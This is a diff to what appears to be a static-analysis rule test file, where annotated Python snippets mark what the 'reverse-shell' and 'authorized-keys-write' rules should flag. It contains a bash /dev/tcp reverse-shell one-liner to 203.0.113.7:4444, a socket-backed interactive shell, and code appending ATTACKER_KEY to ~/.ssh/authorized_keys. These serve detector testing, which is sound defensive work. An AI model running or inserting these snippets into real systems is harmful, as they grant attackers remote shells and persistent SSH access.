@@ -32,6 +32,11 @@ def subprocess_shell():
     subprocess.call(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())
 
 
+def pty_list():
+    # ruleid: reverse-shell
+    pty.spawn(["/bin/bash", "-l"])
+
+
 def one_liner():
     # ruleid: reverse-shell
     os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
@@ -210,6 +215,18 @@ def count_keys():
     # ok: authorized-keys-write
     with open(os.path.expanduser("~/.ssh/authorized_keys")) as f:
         return len(f.readlines())
+
+
+def add_key_path_open():
+    # ruleid: authorized-keys-write
+    with Path("~/.ssh/authorized_keys").expanduser().open("a") as fh:
+        fh.write(ATTACKER_KEY)
+
+
+def audit_keys_path_open():
+    # ok: authorized-keys-write
+    with Path("~/.ssh/authorized_keys").expanduser().open("r") as fh:
+        return fh.read().count("ssh-")
 
 
 def write_results(out_dir, metrics):
